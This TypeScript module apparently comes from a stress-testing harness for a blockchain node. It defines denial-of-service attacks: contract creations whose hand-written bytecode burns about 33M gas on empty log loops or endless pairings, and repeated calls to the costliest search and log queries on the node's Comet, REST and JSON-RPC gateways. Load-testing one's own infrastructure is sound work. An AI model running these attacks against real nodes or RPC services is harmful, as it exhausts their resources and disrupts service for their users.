/** Attacks by blocks that are expensive to make and to show, and by searches over them. */
import { ENDLESS_PAIRINGS } from '../endless-calls.ts'
import { sendCreations } from './pool.ts'
import { type Attack, attackerKey, call, repeat, send } from './target.ts'

const PERIOD_MS = 2000

/** Empty logs until the gas is used up: JUMPDEST, a hundred of PUSH0 PUSH0 LOG0, and a jump back. */
const LOGS = `0x5b${'5f5fa0'.repeat(100)}5f56` as const

/** Pairs of creations that spend 33M gas on empty logs. */
export const manyLogs: Attack = async (target) => (stop, count) => {
  const keys = [attackerKey(target, 4), attackerKey(target, 5)]
  return sendCreations(target, stop, count, { code: LOGS, keys, periodMs: PERIOD_MS })
}

/** Pairs of creations that spend 33M gas on pairings. */
export const heavyBlocks: Attack = async (target) => (stop, count) => {
  const keys = [attackerKey(target, 6), attackerKey(target, 7)]
  const code = ENDLESS_PAIRINGS as `0x${string}`
  return sendCreations(target, stop, count, { code, keys, periodMs: PERIOD_MS })
}

/** The most expensive searches and lists of every gateway. */
export const searches: Attack = async (target) => {
  const { rest, jsonrpc, comet } = target.config.urls
  const query = encodeURIComponent('tx.height>0')
  const requests: readonly { readonly url: string; readonly body?: string }[] = [
    { url: `${comet}/tx_search?query="${query}"&per_page=100&order_by="desc"` },
    { url: `${comet}/block_search?query="${encodeURIComponent('block.height>0')}"&per_page=100` },
    { url: `${comet}/block_results` },
    { url: `${rest}/sdk/tx/v1beta1/txs?query=${query}&limit=100&order_by=2` },
    { url: `${rest}/sdk/auth/v1beta1/accounts?pagination.limit=1000&pagination.offset=4000000000` },
    { url: `${rest}/sdk/auth/v1beta1/accounts?pagination.limit=1&pagination.count_total=true` },
    { url: `${rest}/sdk/bank/v1beta1/denom_owners/unative?pagination.limit=1&pagination.count_total=true` },
    { url: jsonrpc, body: JSON.stringify(call('eth_getBlockReceipts', ['latest'])) },
    { url: jsonrpc, body: JSON.stringify(call('eth_getLogs', [{ fromBlock: 'earliest', toBlock: 'latest' }])) },
  ]
  let next = 0
  return (stop, count) =>
    repeat(4, stop, count, async () => {
      const { url, body } = requests[next++ % requests.length]!
      const { status } = await send(target, url, body === undefined ? {} : { body })
      return `status ${status}`
    })
}
